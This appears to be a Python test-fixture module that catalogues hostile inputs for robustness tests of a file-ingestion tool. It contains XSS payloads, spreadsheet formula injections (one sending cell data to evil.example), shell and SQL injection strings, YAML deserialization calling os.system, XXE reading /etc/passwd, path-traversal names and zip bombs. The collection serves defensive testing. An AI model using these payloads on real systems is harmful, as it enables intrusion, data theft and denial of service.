"""Hostile input of every kind that people, programs and attackers have put into files: by name, so that a failure says which."""

from __future__ import annotations

import gzip
import io
import json
import stat
import warnings
import zipfile

_LONG = "long " * 3_000

#: Text for any cell, field, name or note. What a browser would run when it is not escaped is in `LIVELY`.
LIVELY: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "end of a script": "</script><script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "unclosed image": "<img src=x onerror=alert(1) ",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "form": '<form action="https://evil.example"><input name=password><button>OK</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>body{background:url(https://evil.example)}</style>",
    "end of a style": "</style><script>alert(1)</script>",
    "style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "script link": '<a href="javascript:alert(1)">click</a>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "out of an attribute": '" onmouseover="alert(1)" x="',
    "out of a single-quoted attribute": "' onmouseover='alert(1)' x='",
    "out of a tag": '"><script>alert(1)</script>',
    "out of a textarea": "</textarea><script>alert(1)</script>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "comment": "<!-- --><i>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "entity": "&lt;script&gt;&#60;b&#62;<b>&",
    "table out": "</td></tr></table><h1>Signed off</h1>",
    "element": "<b class=pif-hidden style=position:fixed>x</b>",
    "processing": '<?php echo 1 ?><?xml version="1.0"?><b>',
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert()//>",
}
#: Text that other programs would run, follow, hide or stumble over.
OTHER: dict[str, str] = {
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt><b\x00>",
    "markdown link": "[click](javascript:alert(1))",
    "markdown image": "![x](https://evil.example/track.png)",
    "markdown link in capitals": "[x](JaVaScRiPt:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "markdown reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "markdown auto link": "<javascript:alert(1)> <https://evil.example>",
    "markdown heading": "# Signed off\n\n***\n\n```\ncode\n```",
    "markdown table": "|a|b|\n|-|-|\n|<b>|x|",
    "template braces": "{{ 7*7 }} {% raw %} {{ config }} {# x #}",
    "template classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{0} {x!r} {x.__class__} %s %n %(x)s ${7*7} #{7*7} <%= 7*7 %>",
    "shell": "$(touch evil) `touch evil` ; rm -rf x | cat && true",
    "SQL": "'; DROP TABLE events; -- \" OR 1=1",
    "terminal colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 controls": "\x9b31m \x85 \x90x\x9c",
    "bell and back": "\x07\x08\x7f OK\rNOT",
    "bidi override": "\u202egnp.exe\u202c",
    "bidi isolate": "\u2066\u2067abc\u2069 \u200f\u200e\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "tag letters": "x\U000e0041\U000e0042",
    "null": "a\x00b",
    "nulls": "\x00" * 50,
    "line ends": "a\r\nb\nc\rd\u2028e\u2029f\x0bg\x0ch",
    "lone quotation mark": 'say "no',
    "tabs": "\ta\tb",
    "combining": "Z" + "\u0351\u0315\u0489" * 200,
    "unusual letters": "𝕳𝖊𝖑𝖑𝖔 ﷽ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 \uffff \ufffe",
    "long": _LONG,
    "long word": "x" * 19_000,
    "blank": " \u00a0\u3000\t",
    "formula": '=HYPERLINK("https://evil.example","Click")',
    "formula DDE": "=cmd|' /C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line end": "\r\n=1+1",
    "formula wide": "＝1+1",
    "formula quoted": "'=1+1",
    "formula import": '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "spreadsheet error": "#REF!",
    "XML in a cell": "_x0000_ _x001F_ ]]> &#0; &#xD800;",
}
TEXTS: dict[str, str] = {**LIVELY, **OTHER}

#: Names of files, folders, ids and archive members.
NAMES: dict[str, str] = {
    "up": "../evil", "up twice": "../../evil", "up far": "../" * 40 + "evil", "up on Windows": "..\\..\\evil", "absolute": "/evil-root/evil",
    "absolute on Windows": "C:\\evil", "drive": "c:evil", "share": "\\\\evil.example\\share\\evil", "home": "~/evil", "variable": "$HOME/%TEMP%/evil",
    "dot": ".", "dots": "..", "three dots": "...", "blank": "", "space": " ", "trailing dot": "evil.", "trailing space": "evil ", "stream": "evil.csv::$DATA",
    "device": "con", "device with ending": "aux.csv", "device in capitals": "LPT1", "device with digits above": "com¹", "null": "evil\x00.csv", "line end": "evil\n.csv",
    "bidi": "evil\u202evsc.exe", "option": "--help", "wild": "*?<>|\":", "long": "e" * 300, "slash in it": "north/../../evil", "percent": "%2e%2e%2fevil",
    "wide dots": "．．／evil", "hidden": ".evil", "temporary": "~$evil", "url": "https://evil.example/x", "file url": "file:///etc/passwd",
    "yaml": "../evil.yaml", "ends in a line end": "north\n", "capitals": "NORTH", "letters of others": "nоrth", "combined": "e\u0301vil",
}  # fmt: skip

#: Days, months and times that are none, or that trip programs up.
DAYS: dict[str, str] = {
    "leap day": "2028-02-29", "no leap day": "2026-02-29", "no leap day of a century": "2100-02-29", "leap day, British": "29/02/2028",
    "no leap day, British": "29/02/2027", "day 31": "2026-04-31", "month 13": "2026-13-01", "zero": "0000-00-00", "year one": "0001-01-01",
    "last year": "9999-12-31", "year of five digits": "12026-01-01", "week": "2026-W53-7", "ordinal": "2026-366", "with time": "2026-04-01T00:00:00Z",
    "with zone": "2026-03-29T01:30:00+01:00", "zone far off": "2026-01-01T00:00:00+14:00", "leap second": "2016-12-31T23:59:60Z", "American": "12/31/2026",
    "two digits": "01/04/26", "serial": "46113", "epoch": "0", "huge": "9" * 400, "negative": "-2026-01-01", "words": "yesterday", "Excel month": "Apr-26",
    "quarter": "2026-27 Q5", "range back": "2030-2020", "other digits": "２０２６-０４-０１", "Arabic digits": "٢٠٢٦-٠٤-٠١", "blanks": "2026 - 04 - 01",
}  # fmt: skip

#: Figures and scores.
NUMBERS: dict[str, str] = {
    "not a number": "nan", "infinite": "inf", "minus infinite": "-Infinity", "huge": "1e999", "tiny": "1e-999", "many digits": "9" * 5_000,
    "hexadecimal": "0x10", "underscores": "1_000", "other digits": "４５", "fraction": "½", "commas": "1,2,3", "two points": "1.2.3", "signs": "--5",
    "exponent": "1e1000000000", "sum": "1+1", "power": "9**9**9", "percent": "4500%", "blank inside": "1 0", "null": "None", "true": "true", "minus zero": "-0",
}  # fmt: skip

_LAUGHS = (
    "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(
        f"{now}: &{now} [{','.join(['*' + last] * 9)}]\n" for last, now in zip("abcdefgh", "bcdefghi", strict=True)
    )
).encode()

#: Whole YAML documents.
YAMLS: dict[str, bytes] = {
    "billion laughs": _LAUGHS,
    "laughs in groups": b"x: &x {id: a, title: b}\ncriteria: [*x, *x]\n",
    "anchor on itself": b"&a [*a]\n", "field on itself": b"a: &a\n  b: *a\n", "merge": b"a: &a {b: 1}\nc:\n  <<: *a\n", "unknown alias": b"a: *nowhere\n",
    "python object": b"a: !!python/object/apply:os.system ['touch evil']\n", "python name": b"!!python/name:os.system\n",
    "ruby object": b"--- !ruby/object:Gem::Installer\ni: x\n", "java object": b"!!javax.script.ScriptEngineManager [x]\n", "own tag": b"name: !x y\n",
    "binary": b"name: !!binary R0lGODlhDAAMAIQAAP\n", "set": b"name: !!set {a, b}\n", "omap": b"name: !!omap [a: 1]\n", "tag without name": b"name: ! x\n",
    "tag directive": b"%TAG ! tag:evil.example,2026:\n---\n!x y\n", "yaml 1.1": b"%YAML 1.1\n---\na: yes\n", "yaml 9": b"%YAML 9.9\n---\na: b\n",
    "deep list": b"a: " + b"[" * 5_000 + b"]" * 5_000, "deep and open": b"[" * 30_000, "deep fields": b"a: " + b"{a: " * 2_000 + b"}" * 2_000,
    "deep by blanks": b"".join(b" " * at + b"a:\n" for at in range(600)), "deep dashes": b"- " * 5_000, "deep questions": b"? " * 5_000,
    "many keys": b"".join(b"k%d: 1\n" % at for at in range(60_000)), "many commas": b"a: [" + b"a," * 100_000 + b"]", "same key": b"name: a\nname: b\n",
    "keys that are numbers": b"1: a\n2.5: b\nnull: c\ntrue: d\n", "key that is a list": b"? [a, b]\n: c\n", "key that is a date": b"2026-01-01: x\n",
    "huge integer": b"a: " + b"9" * 50_000, "huge exponent": b"a: 1e999999999\n", "not a number": b"name: .nan\n", "infinite": b"minimum: -.inf\n",
    "octal": b"id: 0o777\nname: 0777\n", "sexagesimal": b"id: 190:20:30\n", "no such day": b"start: 2026-02-30\n", "odd time": b"start: 2026-01-01 99:99:99\n",
    "far zone": b"start: 2026-01-01 00:00:00 +99:99\n", "two documents": b"a: 1\n---\nb: 2\n", "many documents": b"---\n" * 5_000, "empty": b"", "blank": b" \n\t\n",
    "comment": b"# nothing\n", "only a text": b"text\n", "only a list": b"- a\n- b\n", "only null": b"~\n", "ends early": b"a: [1, 2", "quote open": b"a: 'x\n",
    "tab": b"a:\n\tb: 1\n", "null byte": b"a: \x00\n", "control": b"a: \x1b[31m\n", "no UTF-8": b"a: \xff\xfe\xfd\n", "UTF-16": "name: x\n".encode("utf-16"),
    "UTF-32": "name: x\n".encode("utf-32"), "half a character": b"a: \xf0\x9f\n", "lone surrogate": b'a: "\\ud800"\n', "surrogate bytes": b"a: \xed\xa0\x80\n",
    "escape beyond": b'a: "\\U00110000"\n', "BOM inside": "a: \ufeffb\n".encode(), "line separator": "a: x\u2028b: y\n".encode(), "long line": b"a: " + b"x" * 200_000,
    "block text": b"a: |9\n  x\n", "colon": b"a: b: c\n", "percent": b"%\n", "at": b"@a: b\n", "backtick": b"a: `b`\n", "all signs": b"!\"#$%&'()*+,-./:;<=>?@[]^_`{|}~\n",
}  # fmt: skip

_TABLE = b"id,title\na,b\n"
#: Bytes instead of a text file.
BYTES: dict[str, bytes] = {
    "empty": b"", "nulls": b"\0" * 100, "one byte": b"\xff", "UTF-8 cut": _TABLE + b"\xe2\x82", "UTF-16 cut": b"\xff\xfe" + b"i\0d", "UTF-16 odd": "a,b".encode("utf-16")[:-1],
    "UTF-16 without mark": "id,title\n".encode("utf-16-le"), "table in UTF-32": "id,title\n".encode("utf-32"), "UTF-7": b"+ADw-script+AD4-", "surrogates": b"id\n\xed\xa0\x80\n",
    "overlong": b"\xc0\xaf\xc1\x9c", "mixed": "é,".encode() + b"\xe9\n", "EBCDIC": "id,title".encode("cp500"), "Shift JIS": "名前,題".encode("shift_jis"),
    "gzip": gzip.compress(b"0" * 5_000_000, mtime=0), "zip": b"PK\x03\x04" + b"\0" * 60, "old Excel": b"\xd0\xcf\x11\xe0" + b"\0" * 600, "PDF": b"%PDF-1.7\n", "PNG": b"\x89PNG\r\n\x1a\n",
    "executable": b"MZ\x90\x00", "SQLite": b"SQLite format 3\0" + b"\0" * 100, "web page": b"<!DOCTYPE html><script>alert(1)</script>", "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
    "JSON": b'{"a": 1}', "quotes open": b'id,title\n"a,b\n' * 3, "quotes after": b'id,title\n"a"b,c\n', "many quotes": b'"' * 20_001, "many commas": b"," * 50_000, "many lines": b"\n" * 8_000,
    "many returns": b"\r" * 20_000, "one long line": b"x" * 150_000, "separator": b"sep=\x00\n", "separator long": b"sep=;;;;\nid;title\n", "header twice": b"id,title,id\na,b,c\n", "no header": b"1,2,3\n4,5,6\n",
    "ragged": b"id,title\na\na,b,c,d\n,,,,\n", "BOM three times": b"\xef\xbb\xbf" * 3 + _TABLE, "BOM in a header": b"id,\xef\xbb\xbftitle\n", "form feeds": b"id\x0ctitle\x1c\x1d\x1e\x85\n", "ends": b"id,title\x1aa,b\n",
}  # fmt: skip

#: JSON documents.
JSONS: dict[str, bytes] = {
    "deep": b"[" * 200_000, "deep and closed": b"[" * 50_000 + b"]" * 50_000, "deep fields": b'{"a":' * 50_000, "empty": b"", "null": b"null", "number": b"1", "text": b'"x"',
    "list": b"[]", "lists": b"[[], {}, 1, null]", "object": b"{}", "not a number": b'{"a": NaN}', "infinite": b'{"a": -Infinity}', "huge number": b'{"a": ' + b"9" * 10_000 + b"}",
    "huge exponent": b'{"a": 1e999999}', "same key": b'{"form": "pifkit-partnership", "form": "x"}', "surrogate": b'{"a": "\\ud800"}', "null byte": b'{"a": "\\u0000"}', "open": b'{"a": [1, 2',
    "comment": b'{"a": 1} // x', "two": b"{} {}", "no UTF-8": b'{"a": "\xff"}', "UTF-16": '{"a": 1}'.encode("utf-16"), "BOM": b'\xef\xbb\xbf{"a": 1}',
    "prototype": b'{"__proto__": {"a": 1}, "constructor": 1}', "wrong kinds": b'{"cells": 5, "indicators": {"a": 1}, "units": "x", "version": [], "form": {}}',
    "cells of no kind": b'{"cells": [1, null, "x", [], {"metadata": 5}, {"metadata": {"tags": ["parameters"]}}]}',
    "cell with null bytes": json.dumps({"cells": [{"metadata": {"tags": ["parameters"]}, "source": ["partnership = '\0'"]}]}).encode(),
    "cell with deep brackets": json.dumps({"cells": [{"metadata": {"tags": ["parameters"]}, "source": ["a = " + "(" * 5_000 + ")" * 5_000]}]}).encode(),
    "cell with deep signs": json.dumps({"cells": [{"metadata": {"tags": ["parameters"]}, "source": ["a = " + "-" * 20_000 + "1"]}]}).encode(),
    "cell with a power": json.dumps({"cells": [{"metadata": {"tags": ["parameters"]}, "source": ["a = 9**9**9\nb = {[]: 1}\nc = " + "9" * 5000]}]}).encode(),
    "cell that runs": json.dumps({"cells": [{"metadata": {"tags": ["parameters"]}, "source": ["a = __import__('os').system('touch evil')"]}]}).encode(),
    "odd figures": b'{"indicators": [{"indicator": "x", "value": "1", "unit": [], "title": {}, "period": 5}, [], {"indicator": 5}]}',
    "odd cards": b'[{"framework": "caf2020", "criteria": [{"id": [], "percent": "x"}, 5]}, {"framework": []}, {"criteria": {}}]',
    "odd units": b'{"cycle": "x", "run": "r", "finished": "y", "units": [{"partnership": "a", "stage": "b"}], "earlier": [{}]}',
    "odd states": b'{"cycle": {}, "run": [], "finished": null, "started": 5, "units": [{"partnership": "a", "stage": "b", "state": [], "seconds": "x"}], "pages": [5]}',
    "odd lists": b'{"cycle": "x", "run": "r", "finished": 1, "units": {"a": 1}, "earlier": 5, "pages": {}, "audiences": []}',
    "odd notes": b'{"indicators": [{"indicator": "x", "notes": 5, "change": [], "target_state": {}, "value": true}]}',
    "odd run": b'{"units": [{"partnership": "../x", "state": 5, "stage": []}, 7], "run": {}, "started": [], "jobs": null}',
}  # fmt: skip


def zipped(*members: tuple[str, bytes], link: str = "") -> bytes:
    """A zip file with these members, names as they are; `link` names one that is a symbolic link."""
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore", UserWarning)  # two members of one name
        for name, content in members:
            one = zipfile.ZipInfo(name)
            one.filename, one.compress_type = name, zipfile.ZIP_DEFLATED  # ZipInfo would mend the name
            if name == link:
                one.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(one, content, compresslevel=1)
    return target.getvalue()


_DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
_FILE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
_BOMB = zipped(("bomb.csv", b"0" * 30_000_000))
#: Zip files, workbooks among them.
ARCHIVES: dict[str, bytes] = {
    **{f"member {name}": zipped(("manifest.json", b"{}"), (path or "x", b"x")) for name, path in NAMES.items()},
    "bomb": zipped(*((f"{at}.csv", b"0" * 30_000_000) for at in range(8))), "bomb in a bomb": zipped(("a.zip", _BOMB), ("b.zip", _BOMB)),
    "bomb that lies": _BOMB.replace((30_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little")), "many members": zipped(*((f"{at}", b"") for at in range(2_000))),
    "same member": zipped(("manifest.json", b"{}"), ("manifest.json", b"[]")), "same but for case": zipped(("A.csv", b"x"), ("a.csv", b"y")),
    "link": zipped(("partnership.yaml", b"/etc/passwd"), link="partnership.yaml"), "folder": zipped(("evil/", b""), ("evil/x", b"")),
    "cut": _BOMB[:-40], "cut early": _BOMB[:20], "end only": _BOMB[-22:], "flipped": bytes(255 - one for one in _BOMB[:500]), "empty": zipped(),
    "entities": zipped(("[Content_Types].xml", _DTD.encode()), ("xl/workbook.xml", _DTD.encode())), "entities in UTF-16": zipped(("xl/workbook.xml", _DTD.encode("utf-16"))),
    "entity that is a file": zipped(("xl/workbook.xml", _FILE.encode()), ("xl/sharedStrings.xml", _FILE.encode())),
    "no XML": zipped(("[Content_Types].xml", b"\0"), ("xl/workbook.xml", b"<")), "deep XML": zipped(("xl/workbook.xml", b"<a>" * 100_000)),
    "many tags": zipped(("xl/worksheets/sheet1.xml", b"<row/>" * 2_000_000)), "many styles": zipped(("xl/styles.xml", b"<xf/>" * 400_000)),
    "secret": _BOMB.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"),
}  # fmt: skip
